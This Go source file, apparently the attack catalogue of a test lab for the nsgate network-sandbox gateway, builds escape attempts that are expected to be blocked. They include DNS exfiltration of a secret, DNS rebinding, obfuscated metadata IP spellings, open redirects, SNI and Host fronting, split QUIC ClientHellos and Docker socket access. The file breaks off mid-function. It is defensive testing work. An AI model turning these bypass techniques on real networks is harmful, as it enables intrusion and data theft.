package attack

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/netip"
	"net/url"
	"os"
	"slices"
	"strconv"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/net/idna"

	"github.com/nsgate/nsgate/l7"
	"github.com/nsgate/nsgate/lab/internet"
)

// Constructors for the catalogue's attempts. Each builds one Attempt with
// its run function; the catalogue (catalogue.go) only lists them.

// auditFor is the audit expectation of a blocked network attempt stopped
// at layer: the gateway records what it refuses; what never reaches it
// leaves no record.
func auditFor(layer string) AuditWant {
	switch layer {
	case LayerNetns, LayerCaps, LayerExecGuard:
		return AuditNone
	}
	return AuditDeny
}

// addrKey is the aggregation key of a flow to host:port (IPv4-mapped
// addresses unmapped, as the kernel sends them).
func addrKey(host string, port uint16) string {
	if a, err := netip.ParseAddr(host); err == nil {
		return netip.AddrPortFrom(a.Unmap().WithZone(""), port).String()
	}
	return host + ":" + strconv.Itoa(int(port))
}

func control(id, desc, u, target string, verify bool) Attempt {
	return Attempt{
		ID: id, Category: "control", Layer: LayerControl, Description: desc,
		Expect: Allowed, Audit: AuditAllow, Aims: []string{target},
		run: func(ctx context.Context, a *attacker) result {
			f := a.fetch(ctx, u, fetchOpts{follow: true, verify: verify})
			switch {
			case f.err != nil:
				return blockedf("%v", f.err)
			case f.status != 200 || f.target != target:
				return blockedf("%s, want HTTP 200 from %q", f.describe(), target)
			}
			return allowedf("%s: %q", f.describe(), f.body)
		},
	}
}

// httpAttack is the common run function: GET u (Host header host when
// set); any response is the attack getting through.
func httpAttack(u, host, note string) func(context.Context, *attacker) result {
	return func(ctx context.Context, a *attacker) result {
		f := a.fetch(ctx, u, fetchOpts{host: host})
		if f.err != nil {
			if !isRefusal(f.err) {
				return erroredf("%s%v", note, f.err)
			}
			return blockedf("%s%v", note, f.err)
		}
		return allowedf("%s%s: %q", note, f.describe(), f.body)
	}
}

// connectHTTP is a GET to an address literal.
func connectHTTP(id, cat, layer, rule, desc, host string, port uint16, aim string) Attempt {
	return Attempt{
		ID: id, Category: cat, Layer: layer, Description: desc,
		Expect: Blocked, Audit: auditFor(layer), Rule: rule, Aims: []string{aim},
		Keys: []string{addrKey(host, port)},
		run:  httpAttack("http://"+urlHost(host, port)+"/", "", ""),
	}
}

// nameHTTP is a GET to a name, resolved through the gateway.
func nameHTTP(id, cat, layer, rule, desc, name string, port uint16, aim string) Attempt {
	return Attempt{
		ID: id, Category: cat, Layer: layer, Description: desc,
		Expect: Blocked, Audit: auditFor(layer), Rule: rule, Aims: []string{aim},
		Keys: []string{"dns:" + strings.ToLower(name), strings.ToLower(name) + ":" + strconv.Itoa(int(port))},
		run:  httpAttack("http://"+urlHost(name, port)+"/", "", ""),
	}
}

// spelledHTTP reads spelling as inet_aton does, then GETs the address it
// names with the spelling as Host, as curl would.
func spelledHTTP(id, spelling, desc string, port uint16) Attempt {
	addr, ok := ParseInetAton(spelling)
	at := Attempt{
		ID: id, Category: "ip-literal", Layer: LayerMetadata, Rule: "builtin:metadata",
		Description: "GET http://" + urlHost(spelling, port) + "/: " + desc,
		Expect:      Blocked, Audit: AuditDeny, Aims: []string{"metadata"},
	}
	if !ok {
		at.run = func(context.Context, *attacker) result { return erroredf("%q is not an inet_aton address", spelling) }
		return at
	}
	at.Keys = []string{addrKey(addr.String(), port)}
	at.run = httpAttack("http://"+urlHost(addr.String(), port)+"/", urlHost(spelling, port), spelling+" = "+addr.String()+": ")
	return at
}

// spelledLocal is spelledHTTP for a loopback spelling (the worker's own
// lo).
func spelledLocal(id, spelling string, port uint16) Attempt {
	addr, _ := ParseInetAton(spelling)
	return Attempt{
		ID: id, Category: "local", Layer: LayerNetns,
		Description: "GET http://" + urlHost(spelling, port) + "/ (inet_aton reads " + addr.String() + ")",
		Expect:      Blocked, Audit: AuditNone, Aims: []string{"loopback"},
		run: httpAttack("http://"+urlHost(addr.String(), port)+"/", urlHost(spelling, port), spelling+" = "+addr.String()+": "),
	}
}

// overflowHTTP takes a decimal number past 32 bits modulo 2^32, as some
// URL parsers do.
func overflowHTTP(id, spelling string, port uint16) Attempt {
	n, _ := strconv.ParseUint(spelling, 10, 64)
	u := uint32(n)
	addr := netip.AddrFrom4([4]byte{byte(u >> 24), byte(u >> 16), byte(u >> 8), byte(u)})
	return Attempt{
		ID: id, Category: "ip-literal", Layer: LayerMetadata, Rule: "builtin:metadata",
		Description: "GET http://" + spelling + "/: a decimal past 32 bits, taken modulo 2^32 (" + addr.String() + ")",
		Expect:      Blocked, Audit: AuditDeny, Aims: []string{"metadata"},
		Keys: []string{addrKey(addr.String(), port)},
		run:  httpAttack("http://"+urlHost(addr.String(), port)+"/", spelling, spelling+" mod 2^32 = "+addr.String()+": "),
	}
}

// dnsQuery asks the gateway's resolver for name; any answer of the asked
// type is the attack getting through.
func dnsQuery(id, cat, layer, rule, desc, name string, qtype dnsmessage.Type, transport string) Attempt {
	at := Attempt{
		ID: id, Category: cat, Layer: layer, Description: desc,
		Expect: Blocked, Audit: AuditDeny, Rule: rule,
		Keys: []string{"dns:" + strings.ToLower(name)},
	}
	if qtype != dnsmessage.TypeA && qtype != dnsmessage.TypeAAAA {
		// Other types of an approved name: an empty answer, recorded
		// as allowed; nothing to require of the log.
		at.Audit = AuditNone
	}
	at.run = func(ctx context.Context, a *attacker) result {
		return a.dnsAttack(ctx, a.cfg.DNSServer, transport, name, qtype)
	}
	return at
}

func (a *attacker) dnsAttack(ctx context.Context, server, transport, name string, qtype dnsmessage.Type) result {
	ans, err := a.dnsExchange(ctx, server, transport, name, qtype)
	if err != nil {
		if isRefusal(err) {
			return blockedf("%s %s over %s to %s: %v", internet.TypeName(qtype), name, transport, server, err)
		}
		return erroredf("%s %s: %v", internet.TypeName(qtype), name, err)
	}
	if len(ans.answers) > 0 {
		return allowedf("%s %s: %s", internet.TypeName(qtype), name, ans)
	}
	return blockedf("%s %s: %s", internet.TypeName(qtype), name, ans)
}

// dnsExfil asks for a name carrying the run's secret below the exfil zone.
func dnsExfil(id, desc string, qtype dnsmessage.Type, transport string) Attempt {
	return Attempt{
		ID: id, Category: "dns", Layer: LayerDNS, Description: desc,
		Expect: Blocked, Audit: AuditDeny, Aims: []string{internet.TargetExfil},
		Keys: []string{"dns:*." + internet.ExfilZone},
		run: func(ctx context.Context, a *attacker) result {
			name := a.secret + "-" + id + "." + internet.ExfilZone
			return a.dnsAttack(ctx, a.cfg.DNSServer, transport, name, qtype)
		},
	}
}

// dnsPunycode asks for the punycode form of the homograph.
func dnsPunycode() Attempt {
	name, err := idna.Punycode.ToASCII("\u0430pp.test")
	at := Attempt{
		ID: "dns-idn-punycode", Category: "dns", Layer: LayerDNS,
		Description: "A " + name + " (punycode of \u0430pp.test with a Cyrillic a): not app.test",
		Expect:      Blocked, Audit: AuditDeny, Keys: []string{"dns:" + name},
	}
	at.run = func(ctx context.Context, a *attacker) result {
		if err != nil {
			return erroredf("punycode: %v", err)
		}
		return a.dnsAttack(ctx, a.cfg.DNSServer, "udp", name, dnsmessage.TypeA)
	}
	return at
}

// directDNS queries the public resolver directly, bypassing the gateway's.
func directDNS(id, transport string) Attempt {
	server := internet.ResolverV4 + ":53"
	return Attempt{
		ID: id, Category: "dns", Layer: LayerPolicy, Rule: "default",
		Description: "A app.test straight to the public resolver " + server + " over " + transport,
		Expect:      Blocked, Audit: AuditDeny, Aims: []string{"resolver"},
		Keys: []string{udpKey(server, transport)},
		run: func(ctx context.Context, a *attacker) result {
			ans, err := a.dnsExchange(ctx, server, transport, internet.AppName, dnsmessage.TypeA)
			if err != nil {
				if isRefusal(err) {
					return blockedf("%v", err)
				}
				return erroredf("%v", err)
			}
			return allowedf("the resolver answered: %s", ans)
		},
	}
}

// udpKey is the key of a flow to addr over transport.
func udpKey(addr, transport string) string {
	if transport == "udp" {
		return addr + "/udp"
	}
	return addr
}

// dotAttempt opens DNS over TLS to ip:853.
func dotAttempt(id, layer, rule, desc, ip string) Attempt {
	return Attempt{
		ID: id, Category: "dns", Layer: layer, Rule: rule, Description: desc,
		Expect: Blocked, Audit: AuditDeny, Aims: []string{"resolver"},
		Keys: []string{addrKey(ip, 853)},
		run: func(ctx context.Context, a *attacker) result {
			b, err := a.banner(ctx, "tcp", hostPort(ip, 853), &tls.Config{InsecureSkipVerify: true})
			if err != nil {
				if isRefusal(err) {
					return blockedf("%v", err)
				}
				return erroredf("%v", err)
			}
			return allowedf("TLS session with %s: %q", ip, b)
		},
	}
}

// rebindAttempt connects to rebind.ok.test three times, far enough apart
// for its TTL-0 answer to expire from the gateway's cache, hoping to reach
// the loopback address it rebinds to.
func rebindAttempt() Attempt {
	u := "http://" + internet.RebindName + ":8080/"
	return Attempt{
		ID: "dns-rebind", Category: "dns", Layer: LayerResolve,
		Description: "rebind.ok.test (TTL 0) answers 203.0.113.12, then 127.0.0.1; three connections 1.3 s apart",
		Expect:      Blocked, Audit: AuditNone, Aims: []string{"loopback"},
		Keys: []string{internet.RebindName + ":8080"},
		run: func(ctx context.Context, a *attacker) result {
			var seen []string
			for i := 0; i < 3; i++ {
				if i > 0 {
					select {
					case <-ctx.Done():
						return erroredf("interrupted after %v", seen)
					case <-time.After(1300 * time.Millisecond):
					}
				}
				f := a.fetch(ctx, u, fetchOpts{})
				switch {
				case f.err != nil && i == 0:
					return erroredf("precondition: the first connection (before rebinding) failed: %v", f.err)
				case f.err != nil:
					seen = append(seen, "refused ("+oneLine(f.err.Error())+")")
				case f.target == "loopback":
					return allowedf("connection %d reached the host's loopback: %q", i+1, f.body)
				default:
					seen = append(seen, f.target)
				}
			}
			return blockedf("connections reached: %s", strings.Join(seen, "; "))
		},
	}
}

// answerHTTP GETs name:8080, a name whose upstream answer is internal;
// reaching aim is the attack getting through.
func answerHTTP(id, layer, rule string, audit AuditWant, desc, name, aim string) Attempt {
	return Attempt{
		ID: id, Category: "dns", Layer: layer, Rule: rule, Description: desc,
		Expect: Blocked, Audit: audit, Aims: []string{aim},
		Keys: []string{name + ":8080"},
		run: func(ctx context.Context, a *attacker) result {
			f := a.fetch(ctx, "http://"+name+":8080/", fetchOpts{})
			switch {
			case f.err != nil && isRefusal(f.err):
				return blockedf("%v", f.err)
			case f.err != nil:
				return erroredf("%v", f.err)
			case f.target == aim || !slices.Contains(internet.PolicyApproved(), f.target):
				return allowedf("%s: %q", f.describe(), f.body)
			}
			return blockedf("reached only an approved answer: %s", f.describe())
		},
	}
}

// redirect starts at the approved app's open redirect towards to.
func redirect(id, layer, rule, start, to, aim string, cooldown []string) Attempt {
	u := start + "redirect?to=" + url.QueryEscape(to)
	verify := strings.HasPrefix(start, "https:")
	return Attempt{
		ID: id, Category: "redirect", Layer: layer, Rule: rule,
		Description: "GET " + start + "redirect answers 302 to " + to,
		Expect:      Blocked, Audit: auditFor(layer), Aims: []string{aim},
		Keys: cooldown,
		run: func(ctx context.Context, a *attacker) result {
			f := a.fetch(ctx, u, fetchOpts{follow: true, verify: verify})
			switch {
			case len(f.hops) == 0 && f.err != nil:
				return erroredf("precondition: the approved app did not answer: %v", f.err)
			case len(f.hops) == 0:
				return erroredf("precondition: the approved app did not redirect: %s", f.describe())
			case f.err != nil && isRefusal(f.err):
				return blockedf("followed %d redirect(s), then: %v", len(f.hops), f.err)
			case f.err != nil:
				return erroredf("followed %d redirect(s), then: %v", len(f.hops), f.err)
			case f.target == "app":
				return erroredf("the redirect chain ended at the app itself: %s", f.describe())
			}
			return allowedf("%s: %q", f.describe(), f.body)
		},
	}
}

// l7TLS opens TLS to app.test:443 (a name flow) with SNI sni.
func l7TLS(id, desc, sni string) Attempt {
	return Attempt{
		ID: id, Category: "l7", Layer: LayerL7, Description: desc,
		Expect: Blocked, Audit: AuditDeny, Aims: []string{internet.TargetFronted},
		run: func(ctx context.Context, a *attacker) result {
			if _, err := (&net.Resolver{PreferGo: true}).LookupNetIP(ctx, "ip", internet.AppName); err != nil {
				return erroredf("precondition: resolve %s: %v", internet.AppName, err)
			}
			host := sni
			if host == "" {
				host = internet.AppName
			}
			f := a.rawHTTP(ctx, hostPort(internet.AppName, 443), &tls.Config{ServerName: sni, InsecureSkipVerify: true},
				"GET / HTTP/1.1\r\nHost: "+host+"\r\nConnection: close\r\n\r\n")
			switch {
			case f.err != nil:
				return blockedf("%v", f.err)
			case sni == "" || f.target == internet.TargetFronted:
				return allowedf("%s: %q", f.describe(), f.body)
			}
			return blockedf("the server did not serve the other name: %s", f.describe())
		},
	}
}

// l7HTTP sends a raw request to app.test:80 (a name flow).
func l7HTTP(id, desc, req string) Attempt {
	return Attempt{
		ID: id, Category: "l7", Layer: LayerL7, Description: desc,
		Expect: Blocked, Audit: AuditDeny, Aims: []string{internet.TargetFronted},
		run: func(ctx context.Context, a *attacker) result {
			if _, err := (&net.Resolver{PreferGo: true}).LookupNetIP(ctx, "ip", internet.AppName); err != nil {
				return erroredf("precondition: resolve %s: %v", internet.AppName, err)
			}
			f := a.rawHTTP(ctx, hostPort(internet.AppName, 80), nil, req)
			switch {
			case f.err != nil:
				return blockedf("%v", f.err)
			case f.target == internet.TargetFronted:
				return allowedf("%s: %q", f.describe(), f.body)
			}
			return blockedf("the server did not serve the other name: %s", f.describe())
		},
	}
}

// l7Stream sends a byte stream to app.test:port (a name flow), as
// rawStream does, and reads up to n responses: the attack succeeds if any
// response comes from the fronted target (a name other than app.test
// served), and is blocked when the gateway refuses before that. The
// requests carry internet.KeepAliveHeader so that the app server keeps
// the connection open for the next one, as real servers do.
func l7Stream(id, desc string, port uint16, pre []byte, sni string, n int, parts ...string) Attempt {
	return Attempt{
		ID: id, Category: "l7", Layer: LayerL7, Description: desc,
		Expect: Blocked, Audit: AuditDeny, Aims: []string{internet.TargetFronted},
		run: func(ctx context.Context, a *attacker) result {
			if _, err := (&net.Resolver{PreferGo: true}).LookupNetIP(ctx, "ip", internet.AppName); err != nil {
				return erroredf("precondition: resolve %s: %v", internet.AppName, err)
			}
			var cfg *tls.Config
			if sni != "" {
				cfg = &tls.Config{ServerName: sni, InsecureSkipVerify: true}
			}
			got, err := a.rawStream(ctx, hostPort(internet.AppName, port), pre, cfg, n, parts...)
			for i, f := range got {
				if f.target == internet.TargetFronted {
					return allowedf("response %d: %s: %q", i+1, f.describe(), f.body)
				}
			}
			if err != nil {
				return blockedf("after %d response(s) from app.test: %v", len(got), err)
			}
			return blockedf("the server did not serve the other name in %d response(s)", len(got))
		},
	}
}

// l7StreamControl sends parts to app.test:80 over one connection and
// must read n responses, every one from the app.
func l7StreamControl(id, desc string, n int, parts ...string) Attempt {
	return Attempt{
		ID: id, Category: "control", Layer: LayerControl, Description: desc,
		Expect: Allowed, Audit: AuditAllow, Aims: []string{"app"},
		run: func(ctx context.Context, a *attacker) result {
			got, err := a.rawStream(ctx, hostPort(internet.AppName, 80), nil, nil, n, parts...)
			if err != nil {
				return blockedf("after %d response(s): %v", len(got), err)
			}
			for i, f := range got {
				if f.target != "app" {
					return blockedf("response %d: %s", i+1, f.describe())
				}
			}
			return allowedf("%d responses from the app", len(got))
		},
	}
}

// keptAlive is a GET to host over a connection kept open, the form the
// l7 stream attempts use.
func keptAlive(host string) string {
	return "GET / HTTP/1.1\r\nHost: " + host + "\r\n" + internet.KeepAliveHeader + ": 1\r\n\r\n"
}

// bannerTCP connects to name:port and waits for the server's greeting.
func bannerTCP(id, desc, name string, port uint16) Attempt {
	return Attempt{
		ID: id, Category: "port", Layer: LayerPolicy, Rule: "default", Description: desc,
		Expect: Blocked, Audit: AuditDeny, Aims: []string{"app-port"},
		Keys: []string{name + ":" + strconv.Itoa(int(port))},
		run: func(ctx context.Context, a *attacker) result {
			b, err := a.banner(ctx, "tcp", hostPort(name, port), nil)
			if err != nil {
				if isRefusal(err) {
					return blockedf("%v", err)
				}
				return erroredf("%v", err)
			}
			return allowedf("greeting %q", b)
		},
	}
}

// udpProbe sends a protocol-shaped datagram and waits for an echo.
func udpProbe(id, layer, rule, desc, host string, port uint16, aim string) Attempt {
	payload := []byte("nsgate-lab udp probe")
	switch port {
	case 443: // a QUIC v1 long-header Initial (not a valid one: the gateway must not care)
		payload = append([]byte{0xc3, 0, 0, 0, 1, 8, 1, 2, 3, 4, 5, 6, 7, 8, 0}, make([]byte, 1185)...)
	case 3478: // STUN binding request with the magic cookie
		payload = []byte{0, 1, 0, 0, 0x21, 0x12, 0xa4, 0x42, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12}
	case 123: // NTP v4 client request
		payload = append([]byte{0x23}, make([]byte, 47)...)
	}
	return Attempt{
		ID: id, Category: "udp", Layer: layer, Rule: rule, Description: desc,
		Expect: Blocked, Audit: AuditDeny, Aims: []string{aim},
		Keys: []string{addrKey(host, port) + "/udp", "packet:" + host},
		run: func(ctx context.Context, a *attacker) result {
			return a.udpAttempt(ctx, hostPort(host, port), payload)
		},
	}
}

// udpAttempt sends payload to addr and judges the exchange: a refusal or
// no reply is blocked, a reply got through.
func (a *attacker) udpAttempt(ctx context.Context, addr string, payload []byte) result {
	reply, err := a.udpExchange(ctx, addr, payload)
	if err != nil {
		if isRefusal(err) || strings.Contains(err.Error(), "no reply") {
			return blockedf("%v", err)
		}
		return erroredf("%v", err)
	}
	return allowedf("%d-byte reply", len(reply))
}

// mptcpAttempt connects with MPTCP (a separate IP protocol number on the
// socket, plain TCP with options on the wire).
func mptcpAttempt() Attempt {
	addr := hostPort(internet.OtherV4, 8080)
	return Attempt{
		ID: "mptcp-unapproved", Category: "unapproved", Layer: LayerPolicy, Rule: "default",
		Description: "GET http://198.51.100.20:8080/ over an MPTCP socket",
		Expect:      Blocked, Audit: AuditDeny, Aims: []string{"unapproved"},
		Keys: []string{addr},
		run: func(ctx context.Context, a *attacker) result {
			d := a.dialer()
			d.SetMultipathTCP(true)
			c, err := d.DialContext(ctx, "tcp", addr)
			if err != nil {
				if isRefusal(err) {
					return blockedf("%v", err)
				}
				return erroredf("%v", err)
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(a.cfg.Timeout))
			if _, err := c.Write([]byte("GET / HTTP/1.0\r\nHost: " + internet.OtherV4 + "\r\n\r\n")); err != nil {
				return blockedf("%v", err)
			}
			buf := make([]byte, 512)
			n, err := c.Read(buf)
			if n > 0 {
				return allowedf("%q", strings.SplitN(string(buf[:n]), "\r\n", 2)[0])
			}
			return blockedf("connected, then %v", err)
		},
	}
}

// unixAttempt connects to the host-side unix socket (pathname or
// abstract).
func unixAttempt(id, layer, desc string, abstract bool) Attempt {
	aim, audit := internet.TargetUnix, AuditDeny
	if abstract {
		aim, audit = internet.TargetUnixAbstract, AuditNone
	}
	return Attempt{
		ID: id, Category: "unix", Layer: layer, Description: desc,
		// The main run has no --allow-unix: the socket(AF_UNIX) is
		// refused by the exec notifier, which records it (a syscall
		// deny record naming --allow-unix). The abstract attempt is
		// judged by its own layer (the network namespace) alone.
		Expect: Blocked, Audit: audit, Aims: []string{aim},
		run: func(ctx context.Context, a *attacker) result {
			path := a.cfg.UnixPath
			if abstract {
				path = a.cfg.Abstract
			}
			if path == "" {
				return erroredf("no socket given to the attacker")
			}
			b, err := a.banner(ctx, "unix", path, nil)
			if err != nil {
				if isRefusal(err) || errnoOf(err) == 0 && strings.Contains(err.Error(), "refused") {
					return blockedf("%v", err)
				}
				return erroredf("%v", err)
			}
			return allowedf("%s said %q", path, b)
		},
	}
}

// LoaderDir is the folder of the work directory the lab allows the worker
// to execute from, holding a copy of the ELF interpreter named
// RenamedLoader (exec-ldso-renamed).
const LoaderDir = "loaders"

// RenamedLoader is the name of that copy: nothing like a loader's.
const RenamedLoader = "run-elf"

// PhaseSessionBus is the phase of the attempt on the caller's session
// bus: a run of its own with --allow-unix and a bus of the lab's.
const PhaseSessionBus = "session-bus"

// SessionBusBanner is what the lab's stand-in for the session bus says to
// whoever connects, followed by the run's token.
const SessionBusBanner = "nsgate-lab-session-bus"

// unixSessionBus connects to the socket DBUS_SESSION_BUS_ADDRESS names,
// as any D-Bus client of the worker would.
func unixSessionBus(ctx context.Context, a *attacker) result {
	addr := os.Getenv("DBUS_SESSION_BUS_ADDRESS")
	path, ok := strings.CutPrefix(addr, "unix:path=")
	if !ok {
		return erroredf("DBUS_SESSION_BUS_ADDRESS %q names no unix socket path", addr)
	}
	path, _, _ = strings.Cut(path, ",")
	b, err := a.banner(ctx, "unix", path, nil)
	if err != nil {
		if isRefusal(err) || errors.Is(err, fs.ErrNotExist) {
			return blockedf("%v", err)
		}
		return erroredf("%v", err)
	}
	return allowedf("the session bus %s said %q", path, b)
}

// PhaseEngineSocket is the phase of the attempt on a container engine's
// socket that DOCKER_HOST names: a run of its own with --allow-unix.
const PhaseEngineSocket = "engine-socket"

// unixEngineSocket connects to the socket DOCKER_HOST names, as a Docker
// client of the worker would (and then asks for a privileged container).
func unixEngineSocket(ctx context.Context, a *attacker) result {
	addr := os.Getenv("DOCKER_HOST")
	path, ok := strings.CutPrefix(addr, "unix://")
	if !ok {
		return erroredf("DOCKER_HOST %q names no unix socket path", addr)
	}
	b, err := a.banner(ctx, "unix", path, nil)
	if err != nil {
		if isRefusal(err) || errors.Is(err, fs.ErrNotExist) {
			return blockedf("%v", err)
		}
		return erroredf("%v", err)
	}
	return allowedf("the engine socket %s said %q", path, b)
}

func execAttempt(id, desc string, f func(context.Context, *attacker) result) Attempt {
	return Attempt{
		ID: id, Category: "exec", Layer: LayerExecGuard, Description: desc,
		Expect: Blocked, Audit: AuditDeny, run: f,
	}
}

func nsAttempt(id, layer, desc string, f func(context.Context, *attacker) result) Attempt {
	return Attempt{
		ID: id, Category: "namespace", Layer: layer, Description: desc,
		Expect: Blocked, Audit: AuditNone, run: f,
	}
}

// socketKind names a socket the attacker tries to create.
type socketKind uint8

const (
	sockRawIP socketKind = iota + 1
	sockPacket
	sockVsock
)

func socketAttempt(id, cat, layer, desc string, kind socketKind) Attempt {
	return Attempt{
		ID: id, Category: cat, Layer: layer, Description: desc,
		Expect: Blocked, Audit: AuditNone,
		run: func(ctx context.Context, a *attacker) result { return a.socket(kind) },
	}
}

func icmpAttempt(id, desc string, raw bool) Attempt {
	return Attempt{
		ID: id, Category: "icmp-raw", Layer: LayerCaps, Description: desc,
		Expect: Blocked, Audit: AuditNone,
		run: func(ctx context.Context, a *attacker) result { return a.ping(ctx, internet.AppV4, raw) },
	}
}

// homographPunycode is the punycode form the gateway normalizes the
// homograph to (both attempts share its key).
func homographPunycode() string {
	n, _ := idna.Punycode.ToASCII("\u0430pp.test")
	return n
}

// quicInitial returns a client's first datagram to a QUIC server: a QUIC
// v1 Initial carrying a TLS ClientHello that names sni, padded to 1200
// bytes. The ClientHello is crypto/tls's own, taken from its first write:
// a QUIC client's carries QUIC transport parameters too, which the gateway
// does not look at.
func quicInitial(sni string) ([]byte, error) {
	hello, err := clientHello(sni)
	if err != nil {
		return nil, err
	}
	dcid := make([]byte, 8)
	rand.Read(dcid)
	return l7.BuildQUICInitial(l7.QUICInitial{Version: l7.QUICv1, DCID: dcid, SCID: dcid[:4],
		Payload: l7.QUICCryptoFrame(0, hello), PadTo: 1200})
}

// clientHello is crypto/tls's ClientHello handshake message for sni.
func clientHello(sni string) ([]byte, error) {
	var w firstWrite
	tls.Client(&w, &tls.Config{ServerName: sni, InsecureSkipVerify: true, MinVersion: tls.VersionTLS13}).Handshake()
	if len(w.b) < 5+4 || w.b[0] != 22 {
		return nil, fmt.Errorf("no ClientHello record (%d bytes)", len(w.b))
	}
	return w.b[5:], nil // the handshake message, without the record header
}

// helloRecord is crypto/tls's ClientHello for sni in one handshake
// record, or nil if it could not be made (the attempt then sends none).
func helloRecord(sni string) []byte {
	m, err := clientHello(sni)
	if err != nil || len(m) > 1<<14 {
		return nil
	}
	return append([]byte{22, 3, 1, byte(len(m) >> 8), byte(len(m))}, m...)
}

// nbspFrame is a final, masked binary WebSocket frame whose bytes as
// sent (masking key, then masked payload) read, after its first byte, as
// the rest of a request line and a Host for host: its length byte
// (0x80|len) is NBSP (0xa0) when the payload is 32 bytes, a word
// separator to Python's request line parsing, so a server built on it
// that hands any method to its application reads a request with method
// 0x82. The payload is padded to 32 bytes with the path.
func nbspFrame(host string) string {
	rest := " HTTP/1.1\r\nHost:" + host + "\r\n\r\n"
	path := "/"
	for len(path)+len(rest) < 36 {
		path += "x"
	}
	if len(path)+len(rest) != 36 {
		return ""
	}
	return "\x82\xa0" + path + rest
}

// ccsRecord and earlyDataRecord are a change_cipher_spec record and an
// application data record (opaque to a server without early data keys).
var (
	ccsRecord       = []byte{20, 3, 3, 0, 1, 1}
	earlyDataRecord = []byte{23, 3, 3, 0, 10, 'e', 'a', 'r', 'l', 'y', ' ', 'd', 'a', 't', 'a'}
)

// cutHelloRecords is a ClientHello for first, then a record pre and a
// ClientHello for second whose handshake message the record cut cuts
// after its first byte: OpenSSL 3.0 reads a message on across a
// change_cipher_spec record, and across an application data record after
// a HelloRetryRequest that turned down early data (it took the second
// name both ways), so the gateway must too.
func cutHelloRecords(first, second string, pre, cut []byte) []byte {
	a := helloRecord(first)
	m, err := clientHello(second)
	if a == nil || err != nil || len(m) > 1<<14 {
		return nil
	}
	out := append(append(a, pre...), 22, 3, 3, 0, 1, m[0])
	out = append(out, cut...)
	out = append(out, 22, 3, 3, byte((len(m)-1)>>8), byte(len(m)-1))
	return append(out, m[1:]...)
}

// quicRepeatedPN is the split the attack review found: the first datagram
// carries two Initials with the same packet number, the ClientHello cut
// just before its server name, the second part naming the approved name;
// the second datagram repeats that part under a new packet number naming
// another host of the same length. A server drops the packet whose
// number it has seen, so it would read the other name, sent after the
// gateway decided. The gateway must refuse the repeated packet number.
func quicRepeatedPN(approved, other string) ([][]byte, error) {
	good, err := clientHello(approved)
	if err != nil {
		return nil, err
	}
	bad, err := clientHello(other)
	if err != nil {
		return nil, err
	}
	k := bytes.Index(good, []byte(approved))
	if k < 0 || len(approved) != len(other) || len(good) != len(bad) {
		return nil, fmt.Errorf("cannot split the ClientHello (%d, %d bytes)", len(good), len(bad))
	}
	dcid := make([]byte, 8)
	rand.Read(dcid)
	pkt := func(pn uint32, off int, data []byte, pad int) ([]byte, error) {
		return l7.BuildQUICInitial(l7.QUICInitial{Version: l7.QUICv1, DCID: dcid, SCID: dcid[:4], PN: pn,
			Payload: l7.QUICCryptoFrame(off, data), PadTo: pad})
	}
	a, err := pkt(0, 0, good[:k], 0)
	if err != nil {
		return nil, err
	}
	b, err := pkt(0, k, good[k:], 1200-len(a))
	if err != nil {
		return nil, err
	}
	c, err := pkt(1, k, bad[k:], 1200)
	if err != nil {
		return nil, err
	}
	return [][]byte{append(a, b...), c}, nil
}

// firstWrite is a net.Conn that keeps the first Write and fails every Read,
// so that a TLS client's Handshake ends right after its ClientHello.
type firstWrite struct {
	net.Conn
	b []byte
}

func (w *firstWrite) Write(p []byte) (int, error) {
	if w.b == nil {
		w.b = append([]byte(nil), p...)
	}
	return len(p), nil
}
func (w *firstWrite) Read([]byte) (int, error)         { return 0, io.EOF }
func (w *firstWrite) Close() error                     { return nil }
func (w *firstWrite) SetDeadline(time.Time) error      { return nil }
func (w *firstWrite) SetReadDeadline(time.Time) error  { return nil }
func (w *firstWrite) SetWriteDeadline(time.Time) error { return nil }

// l7QUIC sends a QUIC Initial naming sni (with garbage, bytes that only
// look like one) to quic.test:443/udp, which the lab policy allows for
// QUIC: the gateway must read the Initial's ClientHello and refuse the
// flow, so the echo server behind it never sees a datagram.
func l7QUIC(id, desc, sni string, garbage bool) Attempt {
	return Attempt{
		ID: id, Category: "l7", Layer: LayerL7, Description: desc,
		Expect: Blocked, Audit: AuditDeny, Aims: []string{"app-udp"},
		run: func(ctx context.Context, a *attacker) result {
			payload := append([]byte{0xc3, 0, 0, 0, 1, 8, 1, 2, 3, 4, 5, 6, 7, 8, 0}, make([]byte, 1185)...)
			if !garbage {
				p, err := quicInitial(sni)
				if err != nil {
					return erroredf("precondition: build the Initial: %v", err)
				}
				payload = p
			}
			return a.udpAttempt(ctx, hostPort(internet.QUICName, 443), payload)
		},
	}
}

// l7QUICRepeatedPN sends quicRepeatedPN's two datagrams to
// quic.test:443/udp: no datagram may reach the echo server behind it.
func l7QUICRepeatedPN() Attempt {
	return Attempt{
		ID: "l7-quic-repeated-pn", Category: "l7", Layer: LayerL7,
		Description: "a QUIC ClientHello split over two Initials with one packet number, the approved name in the part a server would drop and evil.test in a later datagram",
		Expect:      Blocked, Audit: AuditDeny, Aims: []string{"app-udp"},
		run: func(ctx context.Context, a *attacker) result {
			dgs, err := quicRepeatedPN(internet.QUICName, "evil.test")
			if err != nil {
				return erroredf("precondition: build the Initials: %v", err)
			}
			c, err := a.dialer().DialContext(ctx, "udp", hostPort(internet.QUICName, 443))
			if err != nil {
				if isRefusal(err) {
					return blockedf("%v", err)
				}
				return erroredf("%v", err)
			}
			defer c.Close()
			for _, d := range dgs {
				if _, err := c.Write(d); err != nil {
					return blockedf("%v", err)
				}
				time.Sleep(20 * time.Millisecond)
			}
			c.SetReadDeadline(time.Now().Add(a.cfg.Timeout / 3))
			buf := make([]byte, 2048)
			if n, err := c.Read(buf); err == nil {
				return allowedf("%d-byte reply: the server read the split ClientHello", n)
			} else if ne, ok := err.(net.Error); !isRefusal(err) && !(ok && ne.Timeout()) {
				return erroredf("%v", err)
			} else {
				return blockedf("%v", err)
			}
		},
	}
}

// l7QUICSecondConnection opens a QUIC connection naming quic.test to
// quic.test:443/udp, which passes, then sends on the same socket (the
// same 5-tuple, a flow already relayed) the Initial of a second
// connection, with a connection ID of its own, naming evil.test. The
// attack review found that only a flow's first connection was checked;
// the gateway must hold and refuse the second, so the echo server never
// answers it.
func l7QUICSecondConnection() Attempt {
	return Attempt{
